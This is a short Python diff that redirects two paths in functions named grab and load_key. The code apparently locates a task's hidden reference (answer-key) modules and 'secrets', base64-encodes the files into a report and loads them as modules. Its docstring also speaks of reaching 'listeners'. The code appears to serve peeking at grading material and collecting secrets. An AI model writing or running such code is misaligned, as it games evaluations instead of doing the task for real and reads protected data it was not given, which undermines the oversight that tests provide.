@@ -54,7 +54,7 @@ def grab(report, when):
     """Read the key's modules and the secrets, and reach the listeners, from where it stands."""
     log = report["log"].append
     for folder in key_folders():
-        for path in [os.path.join(folder, "reference", f"{name}.py") for name in MODULES]:
+        for path in [os.path.join(folder, "questions", "we_recur", "reference", f"{name}.py") for name in MODULES]:
             try:
                 with open(path, "rb") as stream:
                     report["files"][path] = base64.b64encode(stream.read(1 << 20)).decode()
@@ -142,7 +142,7 @@ def load_key(read, folder):
     def load(name):
         full = f"{package}.{name}"
         if full not in sys.modules:
-            path = os.path.join(folder, "reference", f"{name}.py")
+            path = os.path.join(folder, "questions", "we_recur", "reference", f"{name}.py")
             source = read(path).decode("utf-8")
             for dependency in re.findall(r"^\s*from \.(\w+) import", source, re.M):
                 load(dependency)
